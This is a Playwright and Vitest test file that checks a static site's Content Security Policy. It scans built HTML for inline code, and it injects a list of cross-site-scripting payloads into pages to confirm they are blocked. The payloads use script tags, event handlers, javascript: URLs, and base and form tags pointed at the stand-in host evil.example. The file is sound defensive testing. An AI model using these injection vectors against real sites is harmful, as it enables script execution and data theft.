import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import { openBrowser } from '../support/browser.ts';
import { demoPaths } from '../support/demo-pages.ts';
import { recordRefusals } from '../support/refusals.ts';

const origin = inject('demoOrigin');
const folder = inject('demoFolder');
const files = globSync('**/*.html', { cwd: folder }).toSorted();
const htmlOf = (file: string) => readFileSync(join(folder, file), 'utf8');

const framed = '/blog/embeds-and-privacy/embed/';
const paths = [...demoPaths.map(({ path }) => path), framed];

describe('every built page', () => {
  test('has its policy behind its charset, before all that it governs', () => {
    expect(files.length).toBeGreaterThan(400);
    const others = files.filter(
      (file) => !/<head><meta charset="utf-8"><meta http-equiv="content-security-policy" content="default-src 'none'/iu.test(htmlOf(file)),
    );
    expect(others).toEqual([]);
  });

  test('allows nothing for being inline, and nothing from anywhere', () => {
    const loose = /'unsafe-(?:inline|eval|hashes)'|(?:^|[ ;])(?:https?:|\*|blob:|data:)(?=[ ;]|$)/u;
    expect(files.filter((file) => loose.test(policyIn(htmlOf(file))))).toEqual([]);
  });

  test('may fetch programmes for its search only where it searches', () => {
    expect(files.filter((file) => policyIn(htmlOf(file)).includes("'wasm-unsafe-eval'"))).toEqual(['it/search/index.html', 'search/index.html']);
  });

  test('carries no style and no handler in an attribute, and no script in its text', () => {
    expect(files.flatMap((file) => inlineIn(parse(htmlOf(file))).map((found) => `${file}: ${found}`))).toEqual([]);
  });
});

const policyIn = (html: string) => /<meta http-equiv="content-security-policy" content="([^"]*)"/u.exec(html)?.[1] ?? '';

/** Attributes that a policy without `unsafe-inline` refuses, and scripts that stand in the page itself. */
function inlineIn(node: DefaultTreeAdapterTypes.Node): string[] {
  const below = 'childNodes' in node ? node.childNodes.flatMap(inlineIn) : [];
  if (!('tagName' in node)) return below;
  const inside = node.tagName === 'template' && 'content' in node ? inlineIn(node.content) : [];
  const isScript =
    node.tagName === 'script' &&
    !node.attrs.some(({ name, value }) => name === 'src' || (name === 'type' && ['application/ld+json', 'speculationrules'].includes(value)));
  const attributes = node.attrs
    .filter(({ name, value }) => /^(?:style$|on)/u.test(name) || /^\s*javascript:/iu.test(value))
    .map(({ name }) => `${node.tagName} ${name}`);
  return [...(isScript ? ['script'] : []), ...attributes, ...inside, ...below];
}

let browser: Browser;
let context: BrowserContext;
let page: Page;
let refusals: () => Promise<readonly string[]>;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'], reducedMotion: 'reduce' });
  page = await context.newPage();
  refusals = await recordRefusals(page);
});
afterEach(() => context.close());

describe('a browser', () => {
  test.each(paths)('refuses nothing of %s', async (path) => {
    const missing: string[] = [];
    page.on('requestfailed', (request) => missing.push(request.url()));
    await page.goto(origin + path, { waitUntil: 'networkidle' });
    for (const details of await page.locator('details').all()) await details.evaluate((element: HTMLDetailsElement) => (element.open = true));
    expect([await refusals(), missing]).toEqual([[], []]);
    // The styles and the fonts have come through: the policy has not left a bare page.
    expect(await page.evaluate(() => [...document.styleSheets].every((sheet) => sheet.cssRules.length > 0) && document.styleSheets.length > 0)).toBe(true);
  });

  test('refuses nothing while a reader searches, filters, copies and opens answers', async () => {
    await page.goto(`${origin}/search/?q=oembed`);
    await page.locator('.search-results li').first().waitFor();
    await page.goto(`${origin}/glossary/`);
    await page.locator('#_filter').fill('open');
    await page.goto(`${origin}/components/`);
    await page.locator('.copy-code').first().click();
    await page.getByText('Copied').first().waitFor();
    await page.goto(`${origin}/follow/`);
    expect(await refusals()).toEqual([]);
  });

  test('opens the networks that a page embeds, and no others', async () => {
    await context.route(/^https:\/\//u, (route) => route.fulfill({ contentType: 'text/html', body: '<p>network</p>' }));
    await page.goto(`${origin}/components/`);
    const doors = page.locator('figure[data-embed] .embed-door');
    const count = await doors.count();
    for (let door = 0; door < count; door++) await doors.first().click();
    for (const frame of await page.locator('figure[data-embed] iframe').all()) await frame.contentFrame().getByText('network').waitFor();
    expect([count > 0, await refusals()]).toEqual([true, []]);
    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    });
    await expect.poll(refusals).toEqual(['frame-src https://evil.example']);
  });
});

/** What somebody puts into a page who has found a hole that nobody knows of. Each calls `canary` or asks for `evil.example`. */
const injected: readonly string[] = [
  '<script>canary("script")</script>',
  '<script type="module">canary("module")</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src="data:text/javascript,canary(1)"></script>',
  '<script type="importmap">{"imports":{}}</script>',
  '<img src="/icon-192.png" onload="canary(1)">',
  '<img src="/none.png" onerror="canary(1)">',
  '<img src="https://evil.example/x.png">',
  '<svg onload="canary(1)"></svg>',
  '<svg><script>canary(1)</script></svg>',
  '<svg><a><animate attributeName="href" to="javascript:canary(1)"></animate></a></svg>',
  '<details open ontoggle="canary(1)"><summary>x</summary></details>',
  '<input autofocus onfocus="canary(1)">',
  '<iframe src="javascript:parent.canary(1)"></iframe>',
  '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x.png)}</style>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<base href="https://evil.example/">',
  '<video src="https://evil.example/x.mp4" autoplay></video>',
  '<form id="leak" action="https://evil.example/"><button>ok</button></form>',
  '<a id="run" href="javascript:canary(1)">x</a>',
];

describe('what is put into a page by force', () => {
  test.each(['/', '/components/', '/search/', framed])('does nothing in %s', async (path) => {
    const reached: string[] = [];
    const called: string[] = [];
    await page.exposeFunction('canary', (name: string) => called.push(String(name)));
    await context.route(/evil\.example/u, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    await page.route(origin + path, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('</main>', `${injected.join('\n')}</main>`) });
    });
    await page.goto(origin + path, { waitUntil: 'networkidle' });
    await page.locator('#run').evaluate((link: HTMLAnchorElement) => link.click());
    await page.locator('#leak').evaluate((form: HTMLFormElement) => form.submit());
    await expect.poll(async () => (await refusals()).join('\n')).toMatch(/form-action/u);
    expect([called, reached]).toEqual([[], []]);
    expect((await refusals()).length).toBeGreaterThan(12);
  });
});
